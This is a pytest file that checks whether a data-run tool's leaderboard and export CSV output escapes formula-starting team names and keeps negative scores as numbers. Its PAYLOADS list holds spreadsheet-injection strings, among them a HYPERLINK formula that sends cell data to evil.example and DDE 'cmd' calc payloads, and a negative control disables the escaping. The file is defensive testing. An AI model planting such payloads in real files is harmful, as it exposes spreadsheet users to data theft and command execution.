"""`--csv` outputs never hand a spreadsheet a formula, and numbers stay numbers.

The attack: teams named so that a spreadsheet opening the leaderboard or the task export
runs their name (`=HYPERLINK(...)`, `+cmd|...`, `-2+3`, `@SUM(...)`). Each such text cell
is written behind an apostrophe; scores, including a negative one, are written as plain
numbers. The negative control writes the same rows with the escaping off.
"""

import csv
import io

import pytest
from test_operator import GOOD, flowers, submit  # noqa: F401

from datarun.safetext import csv_cell

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("ada", "ada"), ("a=b", "a=b"), ("", ""), ("'quoted", "'quoted"),
    (-0.5, -0.5), (-3, -3), (0.0, 0.0), (None, None), (True, True),
])
def test_a_text_cell_that_starts_a_formula_is_escaped_and_numbers_are_kept(value, cell):
    assert csv_cell(value) == cell


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _numbers_stay_numbers(rows: list[dict], column: str) -> None:
    values = [row[column] for row in rows if row[column]]
    assert values and all(float(value) == float(value) for value in values)  # parse as numbers
    assert "-0.5" in values  # a negative score is a plain number, not escaped


def test_leaderboard_and_export_csv_escape_formula_names(flowers, cli, tmp_path, monkeypatch):  # noqa: F811
    for number, team in enumerate(PAYLOADS):
        submit(cli, tmp_path, f"s{number}", GOOD, team=team)
    assert cli("train").exit_code == 0
    from datarun.store.db import open_db

    db = open_db(flowers)  # a score below zero, as an r2 or a custom score may be
    db.execute("UPDATE bagged_scores SET value = -0.5 WHERE submission = 1 AND split = 'valid'")
    db.execute("UPDATE scores SET value = -0.5 WHERE task = 1 AND split = 'valid'")
    db.conn.commit()
    db.conn.close()

    board = cli("leaderboard", "flowers", "--csv")
    export = cli("export", "flowers", "--csv", "-")
    for result, column, number in ((board, "team", "score"), (export, "team", "valid_accuracy")):
        assert result.exit_code == 0, result.stderr
        rows = _rows(result.stdout)
        assert sorted(row[column] for row in rows) == sorted(
            "'" + team for team in PAYLOADS for _ in range(len(rows) // len(PAYLOADS)))
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows
                       for key, cell in row.items() if key not in (number,) and not _number(cell))
        _numbers_stay_numbers(rows, number)
    # JSON carries the names unchanged.
    assert {row["team"] for row in cli("leaderboard", "flowers", "--json").json()["rows"]} == set(PAYLOADS)
    # Negative control: without the escaping the names reach the spreadsheet as formulas.
    import datarun.safetext

    monkeypatch.setattr(datarun.safetext, "FORMULA_STARTS", ())
    for args in (("leaderboard", "flowers", "--csv"), ("export", "flowers", "--csv", "-")):
        assert any(row["team"].startswith("=HYPERLINK(") for row in _rows(cli(*args).stdout))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
